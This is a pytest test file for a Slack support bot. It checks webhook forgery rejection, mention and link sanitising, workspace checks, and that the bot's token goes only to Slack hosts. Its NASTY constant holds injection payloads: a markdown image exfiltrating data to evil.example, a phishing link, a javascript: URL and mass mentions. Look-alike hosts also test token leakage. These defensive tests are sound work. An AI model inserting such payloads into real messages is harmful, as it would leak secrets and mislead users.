"""Whoever is not Slack changes nothing, and whatever somebody writes stays words."""

from __future__ import annotations

import logging
from typing import Any

import pytest

from evals.world.slack.send import FORGERIES

NASTY = (
    "<!channel> <@U0SUPPORT> <!here|x> <#C0AGENTS> @everyone "
    "![x](https://evil.example/p.png?d=secret) [help](https://evil.example/login) https://evil.example/x "
    "[page](https://stepfour.example/help/en/https#dns) [own](/help/en/smtp) <https://evil.example|ok> "
    "`<!channel>` [j](javascript:alert) & <b>bold</b>"
)


@pytest.mark.parametrize("kind", FORGERIES)
async def test_a_forged_delivery_is_refused_and_never_logged(
    house: Any, kind: str, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    expected = 422 if kind == "not_json" else 401
    assert await house.slack.forge(kind, text="a secret of a customer") == expected
    assert await house.store.received_to_do("slack") == []
    await house.quiet()
    assert await house.store.recent_conversations() == []
    ours = [record for record in caplog.records if not record.name.startswith(("httpx", "httpcore"))]
    assert "a secret of a customer" not in str([record.getMessage() for record in ours])


async def test_a_get_and_an_empty_body_are_refused(house: Any) -> None:
    import httpx

    async with httpx.AsyncClient(trust_env=False) as client:
        assert (await client.get(house.slack.request_url)).status_code == 405
        assert (await client.post(house.slack.request_url)).status_code == 401


async def test_slack_may_verify_the_address(house: Any) -> None:
    assert await house.slack.verify_url()


async def test_what_we_say_mentions_nobody_and_leads_to_help_pages_alone(house: Any) -> None:
    async def play(service: Any, message: Any) -> None:
        await service.say(message, NASTY)

    house.play = play
    asked = await house.slack.post("U0CUSTOMER", "C0HELP", "@bot hello")
    (answer,) = await house.answered(asked)
    (words,) = [block["text"] for block in answer.blocks if block["type"] == "markdown"]
    for mention in ("<!", "<@", "<#", "<b>", "<https"):
        assert mention not in words
    assert "![" not in words
    assert "(https://evil.example" not in words
    assert "`https://evil.example/x`" in words
    assert "[page](https://stepfour.example/help/en/https#dns)" in words
    assert "[own](https://stepfour.example/help/en/smtp)" in words
    assert "<" not in answer.text


async def test_what_customers_write_is_shown_to_agents_as_words(house: Any, kit: Any) -> None:
    from datetime import UTC, datetime

    from app import shown
    from app.models.decision import Answer
    from app.models.record import Suggestion

    async def play(service: Any, message: Any) -> None:
        suggestion = Suggestion(
            id="t_1",
            conversation=message.conversation,
            case=None,
            decision=Answer(because=NASTY, citations=()),
            text=NASTY,
            at=datetime.now(UTC),
        )
        notice = shown.suggestion_notice(suggestion)
        await service._record(
            message, "", suggestion.decision, (), suggestion=suggestion, elsewhere=(notice,)
        )

    house.play = play
    await house.slack.post("U0CUSTOMER", "C0HELP", "@bot " + NASTY)
    await house.slack.until(house.in_agents)
    (card,) = house.in_agents()
    said = str(card.blocks)
    for mention in ("<!channel", "<!here", "<@U0SUPPORT", "<#C0AGENTS", "<https://evil", "<b>"):
        assert mention not in said
    assert "<https://stepfour.example/help/en/https#dns|page>" in said


async def test_a_press_in_another_workspaces_name_is_refused(house: Any) -> None:
    from app.channels.slack.receive import Installed, of_ours

    installed = Installed()
    installed.team = "T0HERON"
    assert of_ours({"type": "block_actions", "team": {"id": "T0HERON"}}, installed)
    assert not of_ours({"type": "block_actions", "team": {"id": "T0EVIL"}}, installed)
    assert not of_ours({"type": "event_callback", "authorizations": [{"team_id": "T0EVIL"}]}, installed)
    assert not of_ours({}, Installed())
    installed.enterprise = "E0HERON"
    assert not of_ours({"team": {"id": "T0HERON"}, "enterprise": {"id": "E0EVIL"}}, installed)
    assert of_ours({"team": {"id": "T0HERON"}, "enterprise": None}, installed)


def test_our_token_is_sent_to_slack_alone() -> None:
    from app.channels.slack.files import from_slack

    assert from_slack("https://files.slack.com/files-pri/T1-F1/a.png", None)
    assert not from_slack("http://files.slack.com/files-pri/T1-F1/a.png", None)
    assert not from_slack("https://files.slack.com.evil.example/a.png", None)
    assert not from_slack("https://files.slack.com@evil.example/a.png", None)
    assert not from_slack("https://evil.example/a.png", "http://127.0.0.1:9/api/")
    assert from_slack("http://127.0.0.1:9/files-pri/a.png", "http://127.0.0.1:9/api/")
